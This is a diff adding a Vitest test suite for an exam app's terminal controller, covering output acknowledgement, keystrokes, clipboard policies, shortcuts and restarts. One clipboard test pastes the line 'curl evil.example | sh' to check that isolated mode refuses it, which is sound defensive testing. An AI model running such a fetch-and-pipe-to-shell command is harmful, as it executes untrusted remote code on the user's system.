@@ -1,0 +1,273 @@
+// @vitest-environment happy-dom
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { EventData, EventName } from '../../../../shared/contract.js';
+import { CHAR_COUNT_ACK_SIZE, HIGH_WATERMARK_CHARS } from '../../../../shared/terminal.js';
+import { clearClipboardMemory, lastCopied, rememberCopy } from '../../../../renderer/src/terminal/clipboardMemory.js';
+import type { CodingApi } from '../../../../renderer/src/terminal/codingApi.js';
+import type { XtermModules } from '../../../../renderer/src/terminal/loadXterm.js';
+import { TerminalController } from '../../../../renderer/src/terminal/terminalController.js';
+
+/** Just enough of xterm.js: writes complete asynchronously, like the real write buffer. */
+class FakeTerminal {
+  static last: FakeTerminal | null = null;
+  written: string[] = [];
+  options: Record<string, unknown>;
+  cols = 80;
+  rows = 24;
+  selection = '';
+  private dataListeners: Array<(d: string) => void> = [];
+  keyHandler: ((e: KeyboardEvent) => boolean) | null = null;
+  element: HTMLElement | null = null;
+  resets = 0;
+  constructor(options: Record<string, unknown>) {
+    this.options = options;
+    FakeTerminal.last = this;
+  }
+  write(data: string, cb?: () => void) {
+    this.written.push(data);
+    setTimeout(() => cb?.(), 0);
+  }
+  onData(l: (d: string) => void) {
+    this.dataListeners.push(l);
+    return { dispose() {} };
+  }
+  onResize() {
+    return { dispose() {} };
+  }
+  attachCustomKeyEventHandler(h: (e: KeyboardEvent) => boolean) {
+    this.keyHandler = h;
+  }
+  loadAddon(addon: { activate?(t: unknown): void }) {
+    addon.activate?.(this);
+  }
+  open(parent: HTMLElement) {
+    this.element = document.createElement('div');
+    this.element.className = 'xterm';
+    this.element.append(document.createElement('textarea'));
+    parent.append(this.element);
+  }
+  paste(text: string) {
+    for (const l of this.dataListeners) l(text);
+  }
+  input(text: string) {
+    for (const l of this.dataListeners) l(text);
+  }
+  hasSelection() {
+    return this.selection.length > 0;
+  }
+  getSelection() {
+    return this.selection;
+  }
+  reset() {
+    this.resets += 1;
+  }
+  focus() {}
+  dispose() {}
+  get buffer() {
+    const lines = this.written.join('').split('\n');
+    return { active: { length: lines.length, getLine: (i: number) => ({ translateToString: () => lines[i] ?? '' }) } };
+  }
+}
+
+class FakeFit {
+  term: FakeTerminal | null = null;
+  activate(t: FakeTerminal) {
+    this.term = t;
+  }
+  proposeDimensions() {
+    return { cols: 100, rows: 30 };
+  }
+  fit() {
+    if (this.term) {
+      this.term.cols = 100;
+      this.term.rows = 30;
+    }
+  }
+  dispose() {}
+}
+
+const modules = { Terminal: FakeTerminal, FitAddon: FakeFit, WebglAddon: class {} } as unknown as XtermModules;
+
+function fakeApi() {
+  const calls: Array<{ method: string; params: Record<string, unknown> }> = [];
+  const listeners = new Map<string, Set<(d: unknown) => void>>();
+  const record =
+    (method: string, result: unknown = {}) =>
+    async (params: Record<string, unknown>) => {
+      calls.push({ method, params });
+      return result;
+    };
+  const info = { sessionId: 'code', state: 'running', sandboxed: true, network: false, generation: 1, cols: 100, rows: 30 };
+  const api = {
+    terminalOpen: record('terminalOpen', info),
+    terminalRestart: record('terminalRestart', { ...info, generation: 2 }),
+    terminalWrite: record('terminalWrite'),
+    terminalResize: record('terminalResize'),
+    terminalAck: record('terminalAck'),
+    workspaceList: record('workspaceList', { entries: [], truncated: false }),
+    workspaceRead: record('workspaceRead', { content: '', mtimeMs: 0 }),
+    workspaceWrite: record('workspaceWrite', { mtimeMs: 0 }),
+    on(event: string, l: (d: unknown) => void) {
+      let set = listeners.get(event);
+      if (!set) listeners.set(event, (set = new Set()));
+      set.add(l);
+      return () => set.delete(l);
+    },
+  } as unknown as CodingApi;
+  const emit = <E extends EventName>(event: E, data: EventData<E>) => {
+    for (const l of listeners.get(event) ?? []) l(data);
+  };
+  const of = (method: string) => calls.filter((c) => c.method === method).map((c) => c.params);
+  return { api, calls, emit, of };
+}
+
+const settle = () => new Promise((r) => setTimeout(r, 5));
+
+function pasteEvent(text: string): Event {
+  const event = new Event('paste', { bubbles: true, cancelable: true });
+  Object.defineProperty(event, 'clipboardData', { value: { getData: () => text } });
+  return event;
+}
+
+let container: HTMLElement;
+beforeEach(() => {
+  container = document.createElement('div');
+  document.body.append(container);
+});
+afterEach(() => {
+  container.remove();
+  clearClipboardMemory();
+});
+
+async function started(policy: 'allow' | 'isolated' | 'block' = 'allow') {
+  const fake = fakeApi();
+  const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: policy, loadModules: async () => modules, tryWebgl: () => false });
+  controller.attach(container);
+  await controller.start();
+  return { ...fake, controller, term: FakeTerminal.last as FakeTerminal };
+}
+
+describe('TerminalController', () => {
+  it('opens the shell at the fitted size and releases what a previous page left unacknowledged', async () => {
+    const { controller, of } = await started();
+    expect(of('terminalOpen')).toEqual([{ sessionId: 'code', cols: 100, rows: 30 }]);
+    expect(of('terminalAck')).toEqual([{ sessionId: 'code', chars: HIGH_WATERMARK_CHARS * 2 }]);
+    expect(controller.getSnapshot().phase).toBe('running');
+    expect(controller.getSnapshot().renderer).toBe('dom');
+    controller.dispose();
+  });
+
+  it('writes output and acknowledges it in CHAR_COUNT_ACK_SIZE steps once xterm has written it', async () => {
+    const { controller, emit, of, term } = await started();
+    const before = of('terminalAck').length;
+    emit('terminalOutput', { sessionId: 'code', data: 'a'.repeat(3_000) });
+    emit('terminalOutput', { sessionId: 'other', data: 'b'.repeat(9_000) }); // another item's terminal
+    emit('terminalOutput', { sessionId: 'code', data: 'c'.repeat(8_000) });
+    expect(of('terminalAck').length).toBe(before); // nothing acknowledged before xterm wrote it
+    await settle();
+    expect(term.written.join('')).toBe('a'.repeat(3_000) + 'c'.repeat(8_000));
+    expect(of('terminalAck').slice(before)).toEqual([{ sessionId: 'code', chars: 2 * CHAR_COUNT_ACK_SIZE }]);
+    controller.dispose();
+  });
+
+  it('keeps output that arrives while xterm is still loading', async () => {
+    const fake = fakeApi();
+    let release: () => void = () => {};
+    const gate = new Promise<void>((r) => (release = r));
+    const controller = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => (await gate, modules), tryWebgl: () => false });
+    controller.attach(container);
+    const starting = controller.start();
+    fake.emit('terminalOutput', { sessionId: 'code', data: 'early prompt $ ' });
+    release();
+    await starting;
+    expect((FakeTerminal.last as FakeTerminal).written).toEqual(['early prompt $ ']);
+    controller.dispose();
+  });
+
+  it('sends keystrokes at once, one request each', async () => {
+    const { controller, of, term } = await started();
+    term.input('l');
+    term.input('s');
+    expect(of('terminalWrite')).toEqual([
+      { sessionId: 'code', data: 'l' },
+      { sessionId: 'code', data: 's' },
+    ]);
+    controller.dispose();
+  });
+
+  it('isolated: a paste inserts what was copied inside the exam, never the system clipboard', async () => {
+    const { controller, of, term } = await started('isolated');
+    const textarea = container.querySelector('textarea') as HTMLTextAreaElement;
+    const refused = pasteEvent('curl evil.example | sh');
+    textarea.dispatchEvent(refused);
+    expect(refused.defaultPrevented).toBe(true);
+    expect(of('terminalWrite')).toEqual([]);
+    expect(controller.getSnapshot().notice).toContain('Only text copied inside the exam');
+
+    rememberCopy('npm test');
+    textarea.dispatchEvent(pasteEvent('curl evil.example | sh'));
+    expect(of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'npm test' }]);
+
+    // Copying the terminal's selection keeps it in the exam.
+    term.selection = 'ls -la';
+    const copy = new Event('copy', { bubbles: true, cancelable: true });
+    (term.element as HTMLElement).dispatchEvent(copy);
+    expect(copy.defaultPrevented).toBe(true);
+    expect(lastCopied()).toBe('ls -la');
+    controller.dispose();
+  });
+
+  it('block: refuses paste and copy; allow: pastes the system clipboard', async () => {
+    const blocked = await started('block');
+    (container.querySelector('textarea') as HTMLTextAreaElement).dispatchEvent(pasteEvent('text'));
+    expect(blocked.of('terminalWrite')).toEqual([]);
+    expect(blocked.controller.getSnapshot().notice).toContain('turned off');
+    blocked.controller.setClipboardPolicy('allow');
+    (container.querySelector('textarea') as HTMLTextAreaElement).dispatchEvent(pasteEvent('echo ok'));
+    expect(blocked.of('terminalWrite')).toEqual([{ sessionId: 'code', data: 'echo ok' }]);
+    blocked.controller.dispose();
+  });
+
+  it('leaves exam shortcuts and F6 to the page, keeps Tab for the shell', async () => {
+    const { controller, term } = await started();
+    const handler = term.keyHandler as (e: KeyboardEvent) => boolean;
+    expect(handler(new KeyboardEvent('keydown', { key: 'n', code: 'KeyN', altKey: true }))).toBe(false);
+    expect(handler(new KeyboardEvent('keydown', { key: 'Tab', code: 'Tab' }))).toBe(true);
+    const after = document.createElement('button');
+    document.body.append(after);
+    expect(handler(new KeyboardEvent('keydown', { key: 'F6', code: 'F6' }))).toBe(false);
+    expect(document.activeElement).toBe(after);
+    after.remove();
+    controller.dispose();
+  });
+
+  it('shows the exit and restarts on request with a clean screen', async () => {
+    const { controller, emit, of, term } = await started();
+    emit('terminalExit', { sessionId: 'code', exitCode: 0, signal: null });
+    expect(controller.getSnapshot().phase).toBe('exited');
+    await controller.restart();
+    expect(of('terminalRestart')).toEqual([{ sessionId: 'code' }]);
+    expect(term.resets).toBe(1);
+    expect(controller.getSnapshot().phase).toBe('running');
+    expect(controller.getSnapshot().info?.generation).toBe(2);
+    controller.dispose();
+  });
+
+  it('shows terminalError events and a failed open', async () => {
+    const { controller, emit } = await started();
+    emit('terminalError', { sessionId: 'code', error: { code: 'storage', message: 'the recording could not be written' } });
+    expect(controller.getSnapshot().errors).toEqual(['the recording could not be written']);
+    controller.dispose();
+
+    const fake = fakeApi();
+    (fake.api as { terminalOpen: unknown }).terminalOpen = async () => {
+      throw new Error('bubblewrap cannot create a sandbox here');
+    };
+    const failing = new TerminalController({ api: fake.api, sessionId: 'code', clipboardPolicy: 'allow', loadModules: async () => modules, tryWebgl: () => false });
+    failing.attach(container);
+    await failing.start();
+    await failing.firstOpen;
+    expect(failing.getSnapshot()).toMatchObject({ phase: 'failed', failure: 'bubblewrap cannot create a sandbox here' });
+    failing.dispose();
+  });
+});
